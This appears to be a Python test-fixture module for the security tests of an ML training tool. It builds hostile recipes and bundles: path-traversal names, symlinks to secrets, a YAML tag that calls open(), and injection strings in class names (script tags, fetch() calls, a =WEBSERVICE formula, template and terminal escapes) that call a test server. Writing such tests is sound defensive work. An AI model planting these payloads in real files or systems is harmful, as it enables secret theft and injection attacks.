"""Recipes, bundles and runs of a stranger that name a secret or a server, and bundles
whose names are markup.

Each builder fills one folder, as those of `carriers`.
"""

from __future__ import annotations

import hashlib
import json
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import yaml

from rsft.models.bundle.bundle import index_digest
from tests.security.carriers import Carrier, Place
from tests.security.private_files import (
    link,
    link_file,
    private_store,
)

# recipes, and bundles and runs with them


def recipe(place: Place, **sections: dict[str, Any]) -> dict[str, Any]:
    """Return the honest recipe with other keys in some sections."""
    path = place.honest / "runs/bars/001/recipe.yaml"
    content = yaml.safe_load(path.read_text())
    content["data"]["root"] = str(place.honest / "store")
    content["train"]["epochs"] = 1
    for name, keys in sections.items():
        content[name] = {**(content.get(name) or {}), **keys}
    return content


ACTS: dict[str, Callable[[Place], dict[str, Any]]] = {
    "tracker": lambda x: {"track": {"to": ["mlflow"], "uri": x.url}},
    "weights": lambda x: {"backbone": {"weights": str(x.secret)}},
    "weights_of_a_server": lambda x: {"backbone": {"weights": x.url}},
    "encoder_of_a_hub": lambda x: {"backbone": {"name": f"timm:hf_hub:{x.url}"}},
    "pool": lambda x: {
        "data": {"unlabeled": str(x.secret.parent / "source/train")},
        "semi": {"start": 0.0},
    },
    "store": lambda x: {"data": {"root": str(private_store(x))}},
    "start": lambda x: {"train": {"start_bundle": str(x.secret.parent)}},
}
"""Changed sections of a recipe, by what they make a training do."""


def bundle(
    change: Callable[[Path, Place], None],
    index: Callable[[Place], dict[str, Any]] = lambda place: {},
    in_run: bool = False,
) -> Carrier:
    """Return a bundle whose files are changed, with matching hashes.

    Args:
        change: changes the files of a folder.
        index: changes of bundle.json.
        in_run: whether it lies in the folder of a run.
    """

    def build(place: Place) -> Path:
        run = place.folder / "run/001"
        honest = place.honest / "runs/bars/001"
        shutil.copytree(honest if in_run else honest / "bundle", run)
        folder = run / "bundle" if in_run else run
        content = json.loads((folder / "bundle.json").read_text())
        change(folder, place)
        for name in content["files"]:
            if (folder / name).is_file():
                digest = hashlib.sha256((folder / name).read_bytes()).hexdigest()
                content["files"][name] = digest
        content |= index(place)
        content["sha256"] = index_digest(content)
        if not (folder / "bundle.json").is_symlink():
            (folder / "bundle.json").write_text(json.dumps(content))
        return run

    return build


def acting(act: str, in_run: bool = False) -> Carrier:
    def change(folder: Path, place: Place) -> None:
        text = yaml.safe_dump(recipe(place, **ACTS[act](place)))
        (folder / "recipe.yaml").write_text(text)
        if in_run:
            (folder.parent / "recipe.yaml").write_text(text)

    return bundle(change, in_run=in_run)


def linked(name: str, target: Callable[[Place], Path]) -> Carrier:
    """Return a bundle with a file that is a link."""

    def change(folder: Path, place: Place) -> None:
        (folder / name).unlink()
        link(folder / name, target(place))

    return bundle(change)


BUNDLES: dict[str, Carrier] = {f"bundle_with_{act}": acting(act) for act in ACTS}
BUNDLES |= {
    "bundle_with_linked_recipe": linked("recipe.yaml", lambda x: x.secret),
    "bundle_with_linked_weights": linked("weights.safetensors", lambda x: x.secret),
    "bundle_with_linked_index": linked("bundle.json", lambda x: x.secret),
    "bundle_with_a_further_file": bundle(
        lambda folder, place: None,
        lambda place: {"files": {"../../../far/secret": "0" * 64}},
    ),
    "bundle_with_a_name_of_a_path": bundle(
        lambda folder, place: None, lambda place: {"name": "../../../far/evil"}
    ),
    "bundle_with_planes_of_code": bundle(
        lambda folder, place: None,
        lambda place: {"contract": _contract(place, f"open('{place.secret}').read()")},
    ),
}


def _contract(place: Place, plane: str) -> dict[str, Any]:
    index = json.loads((place.honest / "runs/bars/001/bundle/bundle.json").read_text())
    return index["contract"] | {"planes": [plane] * 3}


def run_with(change: Callable[[Path, Place], None]) -> Carrier:
    """Return a copy of the honest run, whose files are changed."""

    def build(place: Place) -> Path:
        folder = place.folder / "run/001"
        shutil.copytree(place.honest / "runs/bars/001", folder)
        change(folder, place)
        return folder

    return build


def _root_of_a_private_store(folder: Path, place: Place) -> None:
    metadata = json.loads((folder / "run.json").read_text())
    metadata["data"] = {"root": str(private_store(place))}
    (folder / "run.json").write_text(json.dumps(metadata))
    text = yaml.safe_dump(recipe(place, **ACTS["store"](place)))
    (folder / "recipe.yaml").write_text(text)


RUNS: dict[str, Carrier] = {
    "run_of_a_private_store": run_with(_root_of_a_private_store),
    "run_with_linked_metrics": run_with(link_file("metrics.csv", lambda x: x.secret)),
    "run_with_linked_metadata": run_with(link_file("run.json", lambda x: x.secret)),
    "run_with_linked_bundle": run_with(
        link_file("evaluation/metrics.json", lambda x: x.secret)
    ),
}


def recipe_file(content: Callable[[Place], str]) -> Carrier:
    return lambda place: place.write("a.yaml", content(place))


def _recipe_text(place: Place, line: str) -> str:
    return f"{line}\n{yaml.safe_dump(recipe(place))}"


RECIPES: dict[str, Carrier] = {
    "recipe_that_calls_python": recipe_file(
        lambda x: _recipe_text(
            x, f"meta: !!python/object/apply:builtins.open ['{x.secret}']"
        )
    ),
    "recipe_that_includes": recipe_file(
        lambda x: _recipe_text(x, f"meta: !include {x.secret}")
    ),
    "recipe_that_extends": recipe_file(
        lambda x: _recipe_text(x, f"extends: {x.secret}\ndefaults: ['{x.url}']")
    ),
    "recipe_of_an_encoder_of_a_server": recipe_file(
        lambda x: yaml.safe_dump(recipe(x, **ACTS["encoder_of_a_hub"](x)))
    ),
    "recipe_of_weights_of_a_server": recipe_file(
        lambda x: yaml.safe_dump(recipe(x, **ACTS["weights_of_a_server"](x)))
    ),
    "recipe_of_private_weights": recipe_file(
        lambda x: yaml.safe_dump(recipe(x, **ACTS["weights"](x)))
    ),
}


# names that are markup

MARKUP = {
    "image": '<img src="{url}" onerror="fetch(\'{url}\')">',
    "script": "</script><script src={url}></script>",
    "attribute": "\"'><img src={url}>",
    "style": "</style><style>@import url({url});</style>",
    "formula": '=WEBSERVICE("{url}")',
    "template": "{{{{ ''.__class__ }}}}{{0.__class__}}<img src={url}>",
    "terminal": "[link={url}]\x1b]8;;{url}\x07<img src={url}>",
}


def named_by(text: str) -> Carrier:
    """Return a bundle whose most frequent class has a name that is markup."""

    def classes(place: Place) -> dict[str, Any]:
        name = text.format(url=place.url)
        groups = {"head": ["flat"], "medium": [], "tail": ["slanted", name]}
        return {"classes": ["flat", "slanted", name], "groups": groups}

    return bundle(lambda folder, place: None, classes)


PAGES: dict[str, Carrier] = {
    f"names_with_{name}": named_by(text) for name, text in MARKUP.items()
}
